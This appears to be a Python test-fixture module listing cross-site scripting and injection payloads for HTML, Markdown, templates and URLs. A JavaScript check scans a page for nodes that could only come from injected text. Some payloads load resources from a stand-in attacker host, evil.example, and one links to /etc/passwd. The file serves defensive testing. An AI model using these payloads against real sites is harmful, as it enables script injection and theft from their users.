"""Texts that have run as code in some page, in each of the ways by which a page takes text for more than text.

``PAYLOADS`` are templates: ``RUN`` stands for a statement that leaves a mark in the window, so that a test can tell
that something ran, and what. The HTML ones really run where a page believes them; a test shows that, too.
"""

from typing import Final

RUN: Final = "RUN"
MARKS: Final = "ran"
"""The window's member that collects the numbers of the payloads that ran."""

HTML: Final = (
    "<script>RUN</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "</script><script>RUN</script>",
    "<img src=x onerror=RUN>",
    '<img src="x" onerror="RUN">',
    "<img src=x:x onerror=RUN//",
    "<img/src=x/onerror=RUN>",
    "<img src=https://evil.example/pixel.png>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:RUN"><text y=20>tap</text></a></svg>',
    "<svg><use href=https://evil.example/x.svg#x>",
    "<iframe src=javascript:RUN></iframe>",
    '<iframe srcdoc="<script>with(parent)RUN</script>"></iframe>',
    "<iframe onload=RUN></iframe>",
    "<object data=javascript:RUN></object>",
    "<embed src=javascript:RUN>",
    "<body onload=RUN>",
    "<input onfocus=RUN autofocus>",
    "<select onfocus=RUN autofocus>",
    "<textarea onfocus=RUN autofocus></textarea>",
    "<button onfocus=RUN autofocus>x</button>",
    "<details open ontoggle=RUN>",
    "<video><source onerror=RUN></video>",
    "<video src=x onerror=RUN>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>",
    '<p style="animation:x" onanimationstart=RUN>x</p><style>@keyframes x{}</style>',
    "<div onmouseover=RUN>hover</div>",
    "<a href=javascript:RUN>tap</a>",
    '<a href="jav&#x09;ascript:RUN">tap</a>',
    "<form action=javascript:RUN><button>tap</button></form>",
    "<form><button formaction=javascript:RUN>tap</button></form>",
    "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=RUN>",
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    "<template><img src=x onerror=RUN></template>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:RUN>",
    "<base href=https://evil.example/>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "</title><img src=x onerror=RUN>",
    "</textarea><img src=x onerror=RUN>",
    "</style><img src=x onerror=RUN>",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    "`><img src=x onerror=RUN>",
    '" onmouseover="RUN" x="',
    "' autofocus onfocus='RUN",
    "<img id=app><img name=app>",
    "<form id=document><input name=cookie></form>",
)
"""Text that a page must not take for HTML."""

MARKDOWN: Final = (
    "[tap](javascript:RUN)",
    "[tap](JaVaScRiPt:RUN)",
    "[tap]( javascript:RUN)",
    "[tap](<javascript:RUN>)",
    "[tap](java&#115;cript:RUN)",
    "[tap](javascript&colon;RUN)",
    "[tap](%6aavascript:RUN)",
    "[tap](javascript://%0aRUN)",
    "[tap](vbscript:RUN)",
    "[tap](data:text/html,<script>with(parent)RUN</script>)",
    "[tap](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[tap](blob:https://evil.example/x)",
    "[tap](file:///etc/passwd)",
    '[tap](https://a.example/" onmouseover="RUN)',
    "[tap](https://a.example/ 'x' onmouseover='RUN)",
    '[tap](https://a.example/ "\\" onmouseover=\\"RUN")',
    "[<img src=x onerror=RUN>](https://a.example/)",
    "[tap][x] [x]: javascript:RUN",
    "![x](javascript:RUN)",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="RUN](x)',
    '![x](x"onerror="RUN)',
    "<javascript:RUN>",
    '<https://a.example/"onmouseover=RUN>',
    "javascript:RUN",
    'https://a.example/"onmouseover="RUN',
    "https://a.example/<script>RUN</script>",
    "https://a.example/'-RUN-'",
    "`<img src=x onerror=RUN>`",
    '``` "><img src=x onerror=RUN> ```',
    "**<img src=x onerror=RUN>**",
    "> <img src=x onerror=RUN>",
    "# <img src=x onerror=RUN>",
    "| <img src=x onerror=RUN> | x |",
    "- <img src=x onerror=RUN>",
    "***[tap](javascript:RUN)***",
    "[[tap](javascript:RUN)](javascript:RUN)",
)
"""Text that a page must not take for a link to anything but the web, or for an image."""

OTHER: Final = (
    "';RUN;'",
    '";RUN;"',
    "`;RUN;`",
    "${RUN}",
    "{{RUN}}",
    "{{constructor.constructor('RUN')()}}",
    "#{RUN}",
    "<%= RUN %>",
    "\\u003cimg src=x onerror=RUN\\u003e",
    "&lt;img src=x onerror=RUN&gt;",
    "%3Cimg%20src=x%20onerror=RUN%3E",
    "\u202e<img src=x onerror=RUN>",
    "\uff1cimg src=x onerror=RUN\uff1e",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "#code=AAAA",
    "#/t/../../<img src=x onerror=RUN>",
    "../../ui/logout",
    "//evil.example/",
)
"""Text that a page must not take for code, a template, a route, or a name that every object has."""

PAYLOADS: Final = HTML + MARKDOWN + OTHER


def armed(number: int) -> str:
    """The payload, with a statement that marks the window it runs in with its number."""
    return PAYLOADS[number].replace(RUN, f"(window.{MARKS}??=[]).push({number})")


def fitting(limit: int) -> list[tuple[int, str]]:
    """The payloads that a field of so many characters takes, each with its number."""
    return [(number, text) for number in range(len(PAYLOADS)) if len(text := armed(number)) <= limit]


FOREIGN_NODES: Final = """
() => {
  const ours = (element) => element.src !== undefined && element.src.startsWith(`${location.origin}/ui/assets/`);
  const forbidden = "iframe, frame, object, embed, base, style, form[action], [formaction], svg image, svg use,"
    + " svg animate, img, video, audio, source, marquee, math, template, meta[http-equiv], [srcdoc]";
  const found = [...document.querySelectorAll(forbidden)].map((element) => element.outerHTML);
  for (const element of document.querySelectorAll("*")) {
    if (element.localName === "script" && !ours(element)) found.push(element.outerHTML);
    for (const {name, value} of element.attributes) {
      if (name.startsWith("on")) found.push(element.outerHTML);
      if (["href", "xlink:href", "src", "action"].includes(name)) {
        const place = URL.parse(value, location.href);
        if (!["http:", "https:"].includes(place?.protocol)) found.push(element.outerHTML);
        else if (place.origin !== location.origin && !/noopener/.test(element.rel)) found.push(element.outerHTML);
      }
    }
  }
  return found;
}
"""
"""Every node in the page that could only have come from a text: code, frames, images, handlers, odd links."""
